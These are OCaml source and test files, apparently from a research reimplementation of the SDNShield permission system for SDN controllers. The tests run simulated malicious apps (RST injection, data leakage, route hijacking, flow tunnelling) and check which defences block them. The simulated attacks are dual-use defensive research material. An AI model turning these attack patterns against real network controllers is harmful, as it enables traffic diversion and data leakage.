     AND OWN_FLOWS) the hijacker cannot shadow the routing app's
     rules. *)
  let topo, dp, atk =
    hijack_setup (fun ~ownership ~topo ->
        scenario2_checker ~ownership ~topo ~name:"route_hijacker" ~cookie:2)
  in
  Alcotest.(check bool) "attack attempted" true (!(atk.Attacks.rules_attempted) > 0);
  Alcotest.(check bool) "traffic NOT diverted" false
    (Attacks.hijack_succeeded dp ~src:(host topo "h1") ~dst:(host topo "h3")
       ~mitm:(host topo "h2"));
  Test_util.check_probe "h1->h3 still routed" "delivered-to h3"
    (Dataplane.probe dp ~src:(host topo "h1") ~dst:(host topo "h3") ())

(* Class 4: dynamic-flow tunneling ------------------------------------------------------- *)

let tunnel_setup checker_for =
  let ownership = Sdnshield.Ownership.create () in
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let fw = Firewall.create () in
  let atk = Attacks.tunnel_app ~src_host:"h1" ~dst_host:"h3" () in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (Firewall.app fw, Test_util.checker_of ~ownership ~topo ~name:"firewall" ~cookie:1 Firewall.manifest_src);
        (atk.Attacks.app, checker_for ~ownership ~topo) ]
  in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  (topo, dp, atk)

let test_tunnel_baseline_succeeds () =
  let topo, dp, atk = tunnel_setup (fun ~ownership:_ ~topo:_ -> Api.allow_all) in
  Alcotest.(check int) "tunnel endpoints installed" 2 !(atk.Attacks.rules_attempted);
  (* Telnet traverses the port-80-only firewall. *)
  Alcotest.(check bool) "tunnel works" true
    (Attacks.tunnel_succeeded dp ~src:(host topo "h1") ~dst:(host topo "h3") ())

let test_tunnel_blocked_by_sdnshield () =
  let topo, dp, atk =
    tunnel_setup (fun ~ownership ~topo ->
        scenario2_checker ~ownership ~topo ~name:"tunnel_app" ~cookie:2)
  in
  Alcotest.(check bool) "attack attempted" true (!(atk.Attacks.rules_attempted) > 0);
  (* ACTION FORWARD forbids the Set-field rewrites; OWN_FLOWS forbids
     shadowing the firewall's port-80 paths.  Both tunnel ends die. *)
  Alcotest.(check bool) "tunnel blocked" false
    (Attacks.tunnel_succeeded dp ~src:(host topo "h1") ~dst:(host topo "h3") ());
  (* And the firewall still does its job. *)
  Test_util.check_probe "telnet still dropped" "dropped"
    (Dataplane.probe dp ~src:(host topo "h1") ~dst:(host topo "h3") ~tp_dst:23 ())

(* Table I comparison defenses ------------------------------------------------------------ *)

let test_slicing_same_slice_attacks_succeed () =
  (* Attacker and victim share a slice: slicing constrains nothing. *)
  let slice = Defenses.full_slice in
  let topo, dp, atk =
    tunnel_setup (fun ~ownership:_ ~topo:_ -> Defenses.slicing_checker slice)
  in
  Alcotest.(check bool) "tunnel works under slicing" true
    (Attacks.tunnel_succeeded dp ~src:(host topo "h1") ~dst:(host topo "h3") ());
  ignore atk

let test_slicing_cross_slice_blocked () =
  (* But a write outside the slice's switches is denied. *)
  let checker = Defenses.slicing_checker { Defenses.full_slice with Defenses.switches = [ 1 ] } in
  (match
     checker.Api.check
       (Api.Install_flow (2, Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] ()))
   with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "cross-slice write should be denied");
  match
    checker.Api.check
      (Api.Install_flow (1, Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] ()))
  with
  | Api.Allow -> ()
  | Api.Deny why -> Alcotest.failf "in-slice write denied: %s" why

let test_state_analysis_detects_rule_attacks () =
  (* State analysis sees the tunnel's rewrite pair and the hijack's
     shadowing in the rule base... *)
  let _topo, dp, _ = tunnel_setup (fun ~ownership:_ ~topo:_ -> Api.allow_all) in
  let violations = Defenses.analyze_rules dp in
  Alcotest.(check bool) "tunnel signature found" true
    (Defenses.has_violation `Header_rewrite_pair violations);
  Alcotest.(check bool) "shadowing found" true
    (Defenses.has_violation `Shadowing violations)

let test_state_analysis_blind_to_leakage () =
  (* ...but a pure information leak leaves no rule trace. *)
  let atk = Attacks.info_leaker () in
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (atk.Attacks.app, Api.allow_all) ] in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  Alcotest.(check bool) "leak happened" true
    (Attacks.leak_succeeded kernel.Kernel.sandbox ~app:"info_leaker"
       ~attacker_ip:atk.Attacks.attacker_ip);
  Alcotest.(check (list bool)) "no rule violations to see" []
    (List.map (fun _ -> true) (Defenses.analyze_rules dp))

let suite =
  [ Alcotest.test_case "class1 rst: baseline succeeds" `Quick test_rst_injection_baseline_succeeds;
    Alcotest.test_case "class1 rst: sdnshield blocks" `Quick test_rst_injection_blocked_by_sdnshield;
    Alcotest.test_case "class1 rst: FROM_PKT_IN blocks" `Quick test_rst_injection_blocked_by_pkt_out_filter;
    Alcotest.test_case "class2 leak: baseline succeeds" `Quick test_leak_baseline_succeeds;
    Alcotest.test_case "class2 leak: sdnshield blocks" `Quick test_leak_blocked_by_sdnshield;
    Alcotest.test_case "class3 hijack: baseline succeeds" `Quick test_hijack_baseline_succeeds;
    Alcotest.test_case "class3 hijack: sdnshield blocks" `Quick test_hijack_blocked_by_sdnshield;
    Alcotest.test_case "class4 tunnel: baseline succeeds" `Quick test_tunnel_baseline_succeeds;
    Alcotest.test_case "class4 tunnel: sdnshield blocks" `Quick test_tunnel_blocked_by_sdnshield;
    Alcotest.test_case "tableI slicing: same-slice attacks pass" `Quick test_slicing_same_slice_attacks_succeed;
    Alcotest.test_case "tableI slicing: cross-slice blocked" `Quick test_slicing_cross_slice_blocked;
    Alcotest.test_case "tableI analysis: detects rule attacks" `Quick test_state_analysis_detects_rule_attacks;
    Alcotest.test_case "tableI analysis: blind to leakage" `Quick test_state_analysis_blind_to_leakage ]
