(* Workload-generator tests: determinism, CBench shape, manifest
   complexity shapes, and the exact violation rates Figure 5 needs. *)

open Shield_controller
open Shield_workload
open Sdnshield

let test_prng_determinism () =
  let a = Prng.of_int 42 and b = Prng.of_int 42 in
  let xs = List.init 50 (fun _ -> Prng.int a 1000) in
  let ys = List.init 50 (fun _ -> Prng.int b 1000) in
  Alcotest.(check (list int)) "same seed same stream" xs ys;
  let c = Prng.of_int 43 in
  let zs = List.init 50 (fun _ -> Prng.int c 1000) in
  Alcotest.(check bool) "different seed differs" true (xs <> zs);
  List.iter (fun x -> Alcotest.(check bool) "in range" true (x >= 0 && x < 1000)) xs

let test_cbench_round_robin () =
  let gen = Cbench.create ~switches:4 () in
  let evs = Cbench.packet_ins gen 8 in
  let dpids =
    List.filter_map
      (function Events.Packet_in pi -> Some pi.Shield_openflow.Message.dpid | _ -> None)
      evs
  in
  Alcotest.(check int) "8 events" 8 (List.length dpids);
  List.iter
    (fun d -> Alcotest.(check bool) "dpid in range" true (d >= 1 && d <= 4))
    dpids;
  (* Round-robin: all 4 switches hit in any 4 consecutive events. *)
  let first4 = List.filteri (fun i _ -> i < 4) dpids in
  Alcotest.(check int) "all switches" 4 (List.length (List.sort_uniq compare first4))

let test_cbench_unique_macs () =
  let gen = Cbench.create ~switches:2 () in
  let evs = Cbench.packet_ins gen 100 in
  let srcs =
    List.filter_map
      (function
        | Events.Packet_in pi ->
          Some pi.Shield_openflow.Message.packet.Shield_openflow.Packet.dl_src
        | _ -> None)
      evs
  in
  Alcotest.(check int) "all sources unique" 100
    (List.length (List.sort_uniq compare srcs))

let test_perm_gen_shapes () =
  List.iter
    (fun (complexity, expected_tokens) ->
      let m = Perm_gen.generate ~complexity ~focus:`Insert () in
      Alcotest.(check int)
        (Perm_gen.complexity_to_string complexity)
        expected_tokens (List.length m);
      (* Each token has 10-20 singleton filters. *)
      List.iter
        (fun (p : Perm.t) ->
          let n = Filter.fold_atoms (fun k _ -> k + 1) 0 p.Perm.filter in
          Alcotest.(check bool)
            (Printf.sprintf "%s has ~10-20 filters (got %d)"
               (Token.to_string p.Perm.token) n)
            true
            (n >= 10 && n <= 23))
        m)
    [ (Perm_gen.Small, 1); (Perm_gen.Medium, 5); (Perm_gen.Large, 15) ]

let test_perm_gen_focus_token_first () =
  let mi = Perm_gen.generate ~complexity:Perm_gen.Small ~focus:`Insert () in
  Alcotest.(check bool) "insert focus" true (Perm.grants_token mi Token.Insert_flow);
  let ms = Perm_gen.generate ~complexity:Perm_gen.Small ~focus:`Stats () in
  Alcotest.(check bool) "stats focus" true (Perm.grants_token ms Token.Read_statistics)

let test_perm_gen_deterministic () =
  let a = Perm_gen.generate ~seed:3 ~complexity:Perm_gen.Medium ~focus:`Insert () in
  let b = Perm_gen.generate ~seed:3 ~complexity:Perm_gen.Medium ~focus:`Insert () in
  Alcotest.(check bool) "same seed same manifest" true (Perm.equal a b)

(* The invariant the fig5 bench depends on: traces decide exactly as
   labelled against the generated manifests. *)
let check_trace_against_engine ~complexity ~focus =
  let manifest = Perm_gen.generate ~complexity ~focus () in
  let engine =
    Engine.create ~ownership:(Ownership.create ()) ~app_name:"bench" ~cookie:1
      manifest
  in
  let trace = Api_trace.generate ~focus ~n:1000 () in
  let violations = ref 0 in
  Array.iter
    (fun (call, expected) ->
      let d = Engine.check engine call in
      match (d, expected) with
      | Api.Allow, Api_trace.Should_allow -> ()
      | Api.Deny _, Api_trace.Should_deny -> incr violations
      | Api.Allow, Api_trace.Should_deny ->
        Alcotest.failf "expected deny for %a" Api.pp_call call
      | Api.Deny why, Api_trace.Should_allow ->
        Alcotest.failf "expected allow for %a: %s" Api.pp_call call why)
    trace;
  Alcotest.(check int) "exactly 5% violations" 50 !violations

let test_trace_decisions_insert () =
  List.iter
    (fun c -> check_trace_against_engine ~complexity:c ~focus:`Insert)
    [ Perm_gen.Small; Perm_gen.Medium; Perm_gen.Large ]

let test_trace_decisions_stats () =
  List.iter
    (fun c -> check_trace_against_engine ~complexity:c ~focus:`Stats)
    [ Perm_gen.Small; Perm_gen.Medium; Perm_gen.Large ]

let test_trace_violation_rate_configurable () =
  let t = Api_trace.generate ~violation_rate:0.1 ~focus:`Insert ~n:100 () in
  let v =
    Array.to_list t
    |> List.filter (fun (_, e) -> e = Api_trace.Should_deny)
    |> List.length
  in
  Alcotest.(check int) "10%" 10 v;
  let t0 = Api_trace.generate ~violation_rate:0. ~focus:`Insert ~n:100 () in
  Alcotest.(check bool) "0%" true
    (Array.for_all (fun (_, e) -> e = Api_trace.Should_allow) t0)

let test_mixed_trace () =
  let t = Api_trace.generate_mixed ~n:100 () in
  let inserts =
    Array.to_list t
    |> List.filter (fun (c, _) -> match c with Api.Install_flow _ -> true | _ -> false)
    |> List.length
  in
  Alcotest.(check int) "half inserts" 50 inserts

let suite =
  [ Alcotest.test_case "prng determinism" `Quick test_prng_determinism;
    Alcotest.test_case "cbench round robin" `Quick test_cbench_round_robin;
    Alcotest.test_case "cbench unique macs" `Quick test_cbench_unique_macs;
    Alcotest.test_case "perm-gen shapes" `Quick test_perm_gen_shapes;
    Alcotest.test_case "perm-gen focus first" `Quick test_perm_gen_focus_token_first;
    Alcotest.test_case "perm-gen deterministic" `Quick test_perm_gen_deterministic;
    Alcotest.test_case "trace decisions (insert)" `Quick test_trace_decisions_insert;
    Alcotest.test_case "trace decisions (stats)" `Quick test_trace_decisions_stats;
    Alcotest.test_case "trace violation rate" `Quick test_trace_violation_rate_configurable;
    Alcotest.test_case "mixed trace" `Quick test_mixed_trace ]
