(* Cross-cutting round-trip properties: the concrete syntax printers
   and parsers, and the token naming, agree with each other over
   generated values. *)

open Sdnshield

let test_token_roundtrip () =
  List.iter
    (fun t ->
      Alcotest.(check (option string))
        (Token.to_string t)
        (Some (Token.to_string t))
        (Option.map Token.to_string (Token.of_string (Token.to_string t))))
    Token.all;
  (* Case-insensitive. *)
  Alcotest.(check bool) "uppercase accepted" true
    (Token.of_string "INSERT_FLOW" = Some Token.Insert_flow);
  Alcotest.(check bool) "unknown rejected" true (Token.of_string "frobnicate" = None)

let test_field_roundtrip () =
  List.iter
    (fun f ->
      Alcotest.(check bool)
        (Filter.field_to_string f)
        true
        (Filter.field_of_string (Filter.field_to_string f) = Some f))
    Filter.
      [ F_ip_src; F_ip_dst; F_tcp_src; F_tcp_dst; F_eth_src; F_eth_dst;
        F_in_port; F_eth_type; F_ip_proto; F_vlan ]

(* Semantic round-trip: print a generated manifest in the concrete
   syntax, re-parse it, and require identical decisions on random
   calls.  (Structural equality is too strict: smart constructors
   re-fold constants during parsing.) *)
let manifest_admits m call =
  let attrs = Attrs.of_call call in
  match Engine.token_of_call call with
  | None -> true
  | Some token -> (
    match Perm.find m token with
    | None -> false
    | Some p -> Filter_eval.eval Filter_eval.pure_env p.Perm.filter attrs)

let qsuite =
  [ QCheck.Test.make ~count:300 ~name:"print/parse preserves decisions"
      (QCheck.pair Test_perm_ops.manifest_arb Test_filters.call_arb)
      (fun (m, call) ->
        match Perm_parser.manifest_of_string (Perm.to_string m) with
        | Error e -> QCheck.Test.fail_reportf "reparse failed: %s" e
        | Ok m' -> manifest_admits m' call = manifest_admits m call);
    QCheck.Test.make ~count:300 ~name:"reparse preserves inclusion reflexivity"
      Test_perm_ops.manifest_arb
      (fun m ->
        match Perm_parser.manifest_of_string (Perm.to_string m) with
        | Error e -> QCheck.Test.fail_reportf "reparse failed: %s" e
        | Ok m' ->
          Inclusion.manifest_includes m m' && Inclusion.manifest_includes m' m) ]

let suite =
  [ Alcotest.test_case "token names roundtrip" `Quick test_token_roundtrip;
    Alcotest.test_case "field names roundtrip" `Quick test_field_roundtrip ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
