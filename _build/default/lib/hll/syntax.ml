(* A small high-level network programming language (§VI-C).

   The paper argues SDNShield extends to emerging northbound APIs —
   functional-reactive languages, Maple's decision trees, declarative
   policy languages — because they all compile down to OpenFlow
   instructions where access control applies, provided the compiler
   "tracks the ownership information at a finer granularity during the
   policy composition process".

   This is such a language, in Maple's decision-tree style:

     policy := drop | forward PORT | flood
             | modify FIELD := V ; policy
             | if PRED then policy else policy
             | policy | policy                (union, order-resolved)
             | on SWITCH policy
             | tag APP policy                 (ownership annotation)

   Predicates are boolean combinations of header tests.  [Tag] is the
   ownership-tracking primitive: every compiled rule remembers which
   app(s) contributed it, which is what lets the permission engine
   check composed rules per owner (see {!Deploy}). *)

open Shield_openflow
open Shield_openflow.Types

type test =
  | Dl_src of mac
  | Dl_dst of mac
  | Eth_type_is of eth_type
  | Ip_src of ipv4 * ipv4  (** (addr, mask) *)
  | Ip_dst of ipv4 * ipv4
  | Ip_proto_is of ip_proto
  | Tcp_src of tp_port
  | Tcp_dst of tp_port
  | In_port of port_no

type pred =
  | Any
  | Nothing
  | Test of test
  | And of pred * pred
  | Or of pred * pred
  | Not of pred

type policy =
  | Drop
  | Forward of port_no
  | Flood
  | To_controller
  | Modify of Action.set_field * policy
      (** Rewrite a header field, then continue with the policy. *)
  | If of pred * policy * policy
  | Union of policy * policy
      (** Both sub-policies apply; on overlapping traffic the left one
          wins (OpenFlow priority resolution). *)
  | On_switch of dpid * policy
      (** Restrict the sub-policy to one switch. *)
  | Tag of string * policy
      (** Attribute the sub-policy's rules to an app. *)

(* Combinator sugar ----------------------------------------------------------- *)

let ( &&. ) a b = And (a, b)
let ( ||. ) a b = Or (a, b)
let ( ||| ) a b = Union (a, b)
let if_ pred ~then_ ~else_ = If (pred, then_, else_)
let tag name p = Tag (name, p)
let on dpid p = On_switch (dpid, p)

let ip_dst_subnet addr mask = Test (Ip_dst (addr, mask))
let tcp_dst port = Test (Tcp_dst port)

(* Pretty-printing -------------------------------------------------------------- *)

let pp_test ppf = function
  | Dl_src m -> Fmt.pf ppf "dl_src=%a" pp_mac m
  | Dl_dst m -> Fmt.pf ppf "dl_dst=%a" pp_mac m
  | Eth_type_is t -> Fmt.pf ppf "eth=%a" pp_eth_type t
  | Ip_src (a, m) -> Fmt.pf ppf "ip_src=%a/%a" pp_ipv4 a pp_ipv4 m
  | Ip_dst (a, m) -> Fmt.pf ppf "ip_dst=%a/%a" pp_ipv4 a pp_ipv4 m
  | Ip_proto_is p -> Fmt.pf ppf "proto=%a" pp_ip_proto p
  | Tcp_src p -> Fmt.pf ppf "tcp_src=%d" p
  | Tcp_dst p -> Fmt.pf ppf "tcp_dst=%d" p
  | In_port p -> Fmt.pf ppf "in_port=%d" p

let rec pp_pred ppf = function
  | Any -> Fmt.string ppf "any"
  | Nothing -> Fmt.string ppf "none"
  | Test t -> pp_test ppf t
  | And (a, b) -> Fmt.pf ppf "(%a and %a)" pp_pred a pp_pred b
  | Or (a, b) -> Fmt.pf ppf "(%a or %a)" pp_pred a pp_pred b
  | Not p -> Fmt.pf ppf "not %a" pp_pred p

let rec pp_policy ppf = function
  | Drop -> Fmt.string ppf "drop"
  | Forward p -> Fmt.pf ppf "fwd %d" p
  | Flood -> Fmt.string ppf "flood"
  | To_controller -> Fmt.string ppf "controller"
  | Modify (f, k) -> Fmt.pf ppf "%a; %a" Action.pp_set f pp_policy k
  | If (p, a, b) ->
    Fmt.pf ppf "@[<v2>if %a then@,%a@;<1 -2>else@,%a@]" pp_pred p pp_policy a
      pp_policy b
  | Union (a, b) -> Fmt.pf ppf "(%a | %a)" pp_policy a pp_policy b
  | On_switch (d, k) -> Fmt.pf ppf "on s%d: %a" d pp_policy k
  | Tag (name, k) -> Fmt.pf ppf "[%s] %a" name pp_policy k
