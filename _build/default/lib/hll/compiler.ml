(* Compilation of the high-level language to prioritized OpenFlow rules
   with ownership tracking (§VI-C).

   Decision-tree compilation in the Maple style: the tree is walked
   with a match-context; [If] emits the then-branch under ctx∧pred at
   higher priority and the else-branch under plain ctx below it, so the
   complement of the predicate is realised by rule ordering rather than
   negated matches.  Or-predicates expand into one context per
   disjunct; provable contradictions prune the branch.

   Every emitted rule carries the set of owner apps collected from
   enclosing [Tag]s — the "finer granularity" ownership the paper asks
   the compiler to expose, consumed by {!Deploy}. *)

open Shield_openflow
open Shield_openflow.Types
open Syntax

type rule = {
  dpid : dpid option;  (** [None] = install on every switch. *)
  match_ : Match_fields.t;
  priority : int;
  actions : Action.t list;
  owners : string list;  (** Apps whose policy produced this rule. *)
}

exception Unsupported of string

(* Match-context refinement: add one test to a match, failing to [None]
   when the conjunction is unsatisfiable. *)
let refine (m : Match_fields.t) (t : test) : Match_fields.t option =
  let set_opt current v = match current with
    | None -> Some (Some v)
    | Some v' when v' = v -> Some (Some v)
    | Some _ -> None
  in
  match t with
  | Dl_src v ->
    Option.map (fun x -> { m with Match_fields.dl_src = x }) (set_opt m.Match_fields.dl_src v)
  | Dl_dst v ->
    Option.map (fun x -> { m with Match_fields.dl_dst = x }) (set_opt m.Match_fields.dl_dst v)
  | Eth_type_is v ->
    Option.map (fun x -> { m with Match_fields.dl_type = x }) (set_opt m.Match_fields.dl_type v)
  | Ip_proto_is v ->
    Option.map (fun x -> { m with Match_fields.nw_proto = x }) (set_opt m.Match_fields.nw_proto v)
  | Tcp_src v ->
    Option.map (fun x -> { m with Match_fields.tp_src = x }) (set_opt m.Match_fields.tp_src v)
  | Tcp_dst v ->
    Option.map (fun x -> { m with Match_fields.tp_dst = x }) (set_opt m.Match_fields.tp_dst v)
  | In_port v ->
    Option.map (fun x -> { m with Match_fields.in_port = x }) (set_opt m.Match_fields.in_port v)
  | Ip_src (a, mk) -> (
    let range = { Match_fields.addr = Int32.logand a mk; mask = mk } in
    match m.Match_fields.nw_src with
    | None -> Some { m with Match_fields.nw_src = Some range }
    | Some existing ->
      if Match_fields.ip_compatible existing range then
        (* Keep the narrower of the two compatible ranges. *)
        let narrower =
          if Int32.logand existing.Match_fields.mask mk = mk then existing
          else range
        in
        Some { m with Match_fields.nw_src = Some narrower }
      else None)
  | Ip_dst (a, mk) -> (
    let range = { Match_fields.addr = Int32.logand a mk; mask = mk } in
    match m.Match_fields.nw_dst with
    | None -> Some { m with Match_fields.nw_dst = Some range }
    | Some existing ->
      if Match_fields.ip_compatible existing range then
        let narrower =
          if Int32.logand existing.Match_fields.mask mk = mk then existing
          else range
        in
        Some { m with Match_fields.nw_dst = Some narrower }
      else None)

(** Expand a predicate into disjunctive-normal-form contexts over a
    base match.  Negation is only supported where rule ordering
    realises it (the [If] else-branch); an explicit [Not] in a
    condition raises. *)
let rec contexts (base : Match_fields.t) (p : pred) : Match_fields.t list =
  match p with
  | Any -> [ base ]
  | Nothing -> []
  | Test t -> Option.to_list (refine base t)
  | And (a, b) ->
    List.concat_map (fun m -> contexts m b) (contexts base a)
  | Or (a, b) -> contexts base a @ contexts base b
  | Not _ ->
    raise
      (Unsupported
         "negated predicates: express the complement with if/else ordering")

(* The compiler state threads a decreasing priority counter so that
   earlier-emitted (more specific) rules shadow later ones. *)
type state = { mutable next_priority : int }

let emit st ~dpid ~match_ ~actions ~owners =
  let priority = st.next_priority in
  st.next_priority <- st.next_priority - 1;
  { dpid; match_; priority; actions; owners }

let rec compile_policy st ~dpid ~ctx ~owners ~sets (p : policy) : rule list =
  let leaf actions =
    [ emit st ~dpid ~match_:ctx ~actions:(List.rev_append sets actions) ~owners ]
  in
  match p with
  | Drop -> [ emit st ~dpid ~match_:ctx ~actions:[] ~owners ]
  | Forward port -> leaf [ Action.Output port ]
  | Flood -> leaf [ Action.Flood ]
  | To_controller -> leaf [ Action.To_controller ]
  | Modify (f, k) ->
    compile_policy st ~dpid ~ctx ~owners ~sets:(Action.Set f :: sets) k
  | If (pred, then_, else_) ->
    let then_rules =
      List.concat_map
        (fun ctx' -> compile_policy st ~dpid ~ctx:ctx' ~owners ~sets then_)
        (contexts ctx pred)
    in
    (* The else branch sits below every then-rule: rule order realises
       the negation. *)
    let else_rules = compile_policy st ~dpid ~ctx ~owners ~sets else_ in
    then_rules @ else_rules
  | Union (a, b) ->
    (* Left-biased on overlap, by priority order.  The two compilations
       share the mutable priority counter, so the evaluation order must
       be explicit (OCaml evaluates [x @ y] right-to-left). *)
    let left = compile_policy st ~dpid ~ctx ~owners ~sets a in
    let right = compile_policy st ~dpid ~ctx ~owners ~sets b in
    left @ right
  | On_switch (d, k) -> (
    match dpid with
    | Some existing when existing <> d -> []
    | _ -> compile_policy st ~dpid:(Some d) ~ctx ~owners ~sets k)
  | Tag (name, k) ->
    let owners = if List.mem name owners then owners else name :: owners in
    compile_policy st ~dpid ~ctx ~owners ~sets k

(** Compile a policy to prioritized rules, highest priority first.
    [base_priority] is the ceiling the generated band starts under. *)
let compile ?(base_priority = 60_000) (p : policy) : rule list =
  let st = { next_priority = base_priority } in
  compile_policy st ~dpid:None ~ctx:Match_fields.wildcard_all ~owners:[] ~sets:[]
    p

(** Flow-mods realising the compiled rules on [switches] (rules with a
    [None] dpid fan out to all). *)
let to_flow_mods ~switches (rules : rule list) : (dpid * Flow_mod.t) list =
  List.concat_map
    (fun r ->
      let targets = match r.dpid with Some d -> [ d ] | None -> switches in
      List.map
        (fun d ->
          ( d,
            Flow_mod.add ~priority:r.priority ~match_:r.match_
              ~actions:r.actions () ))
        targets)
    rules

let pp_rule ppf r =
  Fmt.pf ppf "@[<h>%a prio=%d [%a] -> %a owners={%a}@]"
    Fmt.(option ~none:(any "all") (fmt "s%d"))
    r.dpid r.priority Match_fields.pp r.match_ Action.pp_list r.actions
    Fmt.(list ~sep:comma string)
    r.owners
