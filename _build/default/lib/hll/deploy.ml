(* Deployment of compiled high-level policies through the permission
   engine (§VI-C).

   "Once SDNShield obtains the ownership information, it can split the
   rule and feed them to the permission engine respectively" — each
   compiled rule is checked against the engine of *every* owner app
   that contributed to it.  Two modes:

   - [Strict]: a rule installs only if every owner is authorised
     (conservative conjunction);
   - [Partial]: the paper's envisioned extension — "allow an API access
     to be partially denied when some of the owner apps lack certain
     permissions": the rule installs when at least one owner is
     authorised, and the unauthorised owners are reported. *)

open Shield_openflow.Types
open Shield_controller
open Sdnshield

type mode = Strict | Partial

type verdict = {
  rule : Compiler.rule;
  authorized : string list;
  denied : (string * string) list;  (** (owner, reason). *)
  installed : bool;
}

type report = {
  verdicts : verdict list;
  installed_rules : int;
  rejected_rules : int;
}

(** Check one rule against each owner's engine.  Rules with no [Tag]
    owner are controller-internal and pass unchecked. *)
let check_rule ~mode ~(engines : (string * Engine.t) list) ~switches
    (rule : Compiler.rule) : verdict =
  let targets = match rule.Compiler.dpid with Some d -> [ d ] | None -> switches in
  let call_for d =
    Api.Install_flow
      ( d,
        Shield_openflow.Flow_mod.add ~priority:rule.Compiler.priority
          ~match_:rule.Compiler.match_ ~actions:rule.Compiler.actions () )
  in
  let per_owner owner : (string, string * string) Either.t =
    match List.assoc_opt owner engines with
    | None -> Either.Right (owner, "no engine registered for owner")
    | Some engine -> (
      let denial =
        List.find_map
          (fun d ->
            match Engine.check engine (call_for d) with
            | Api.Allow -> None
            | Api.Deny why -> Some why)
          targets
      in
      match denial with
      | None -> Either.Left owner
      | Some why -> Either.Right (owner, why))
  in
  let oks, errs = List.partition_map per_owner rule.Compiler.owners in
  let installed =
    match (mode, rule.Compiler.owners) with
    | _, [] -> true
    | Strict, _ -> errs = []
    | Partial, _ -> oks <> []
  in
  { rule; authorized = oks; denied = errs; installed }

(** Compile-check-install a policy: rules pass per-owner permission
    checking and the survivors land on the data plane via [install]
    (typically [Kernel.exec] or a context's call). *)
let deploy ~mode ~engines ~switches
    ~(install : dpid -> Shield_openflow.Flow_mod.t -> unit)
    (policy : Syntax.policy) : report =
  let rules = Compiler.compile policy in
  let verdicts =
    List.map (check_rule ~mode ~engines ~switches) rules
  in
  let installed_rules = ref 0 and rejected_rules = ref 0 in
  List.iter
    (fun v ->
      if v.installed then begin
        incr installed_rules;
        List.iter
          (fun (d, fm) -> install d fm)
          (Compiler.to_flow_mods ~switches [ v.rule ])
      end
      else incr rejected_rules)
    verdicts;
  { verdicts; installed_rules = !installed_rules;
    rejected_rules = !rejected_rules }

let pp_verdict ppf v =
  Fmt.pf ppf "@[<h>%s %a%a@]"
    (if v.installed then "INSTALL" else "REJECT ")
    Compiler.pp_rule v.rule
    Fmt.(
      list (fun ppf (o, why) -> pf ppf " [%s denied: %s]" o why))
    v.denied
