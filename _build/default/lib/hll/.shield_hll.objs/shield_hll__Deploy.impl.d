lib/hll/deploy.ml: Api Compiler Either Engine Fmt List Sdnshield Shield_controller Shield_openflow Syntax
