lib/hll/compiler.ml: Action Flow_mod Fmt Int32 List Match_fields Option Shield_openflow Syntax
