lib/hll/syntax.ml: Action Fmt Shield_openflow
