(* OpenFlow 1.0-style match structure.

   A match constrains the 12-tuple of header fields.  [None] in an
   optional field means the field is wildcarded.  IPv4 source and
   destination carry an explicit bit mask so both exact and subnet
   matches are expressible — the same shape the permission predicate
   filters use, which keeps filter/rule comparisons uniform. *)

open Types

type ip_match = { addr : ipv4; mask : ipv4 }

type t = {
  in_port : port_no option;
  dl_src : mac option;
  dl_dst : mac option;
  dl_type : eth_type option;
  dl_vlan : vlan option;
  nw_src : ip_match option;
  nw_dst : ip_match option;
  nw_proto : ip_proto option;
  tp_src : tp_port option;
  tp_dst : tp_port option;
}

let wildcard_all =
  { in_port = None; dl_src = None; dl_dst = None; dl_type = None;
    dl_vlan = None; nw_src = None; nw_dst = None; nw_proto = None;
    tp_src = None; tp_dst = None }

let exact_ip addr = { addr; mask = 0xFFFFFFFFl }
let subnet addr mask = { addr = Int32.logand addr mask; mask }

let make ?in_port ?dl_src ?dl_dst ?dl_type ?dl_vlan ?nw_src ?nw_dst ?nw_proto
    ?tp_src ?tp_dst () =
  { in_port; dl_src; dl_dst; dl_type; dl_vlan; nw_src; nw_dst; nw_proto;
    tp_src; tp_dst }

(** The exact match induced by [pkt] arriving on [in_port] — what a
    reactive app would install after a packet-in. *)
let of_packet ?in_port (pkt : Packet.t) =
  let ip_part =
    match pkt.ip with
    | Some iph ->
      (Some (exact_ip iph.nw_src), Some (exact_ip iph.nw_dst),
       Some iph.nw_proto)
    | None -> (None, None, None)
  in
  let nw_src, nw_dst, nw_proto = ip_part in
  let tp_src, tp_dst =
    match pkt.tp with
    | Some tph -> (Some tph.tp_src, Some tph.tp_dst)
    | None -> (None, None)
  in
  { in_port; dl_src = Some pkt.dl_src; dl_dst = Some pkt.dl_dst;
    dl_type = Some pkt.dl_type; dl_vlan = pkt.dl_vlan; nw_src; nw_dst;
    nw_proto; tp_src; tp_dst }

(* Packet matching -------------------------------------------------------- *)

let field_matches : 'p 'a. 'p option -> 'a option -> ('p -> 'a -> bool) -> bool
    =
 fun pattern actual eq ->
  match pattern with
  | None -> true
  | Some p -> ( match actual with Some a -> eq p a | None -> false)

let ip_matches pattern addr =
  ipv4_in_subnet ~addr ~subnet:pattern.addr ~mask:pattern.mask

(** [matches m ~in_port pkt] — does [pkt] arriving on [in_port] satisfy
    match [m]? *)
let matches (m : t) ~in_port (pkt : Packet.t) =
  let ip_field f = Option.map f pkt.ip in
  let tp_field f = Option.map f pkt.tp in
  field_matches m.in_port (Some in_port) Int.equal
  && field_matches m.dl_src (Some pkt.dl_src) Int.equal
  && field_matches m.dl_dst (Some pkt.dl_dst) Int.equal
  && field_matches m.dl_type (Some pkt.dl_type) equal_eth_type
  && field_matches m.dl_vlan pkt.dl_vlan Int.equal
  && field_matches m.nw_src (ip_field (fun i -> i.Packet.nw_src)) ip_matches
  && field_matches m.nw_dst (ip_field (fun i -> i.Packet.nw_dst)) ip_matches
  && field_matches m.nw_proto
       (ip_field (fun i -> i.Packet.nw_proto))
       equal_ip_proto
  && field_matches m.tp_src (tp_field (fun t -> t.Packet.tp_src)) Int.equal
  && field_matches m.tp_dst (tp_field (fun t -> t.Packet.tp_dst)) Int.equal

(* Structural relations ---------------------------------------------------- *)

let equal (a : t) (b : t) = a = b

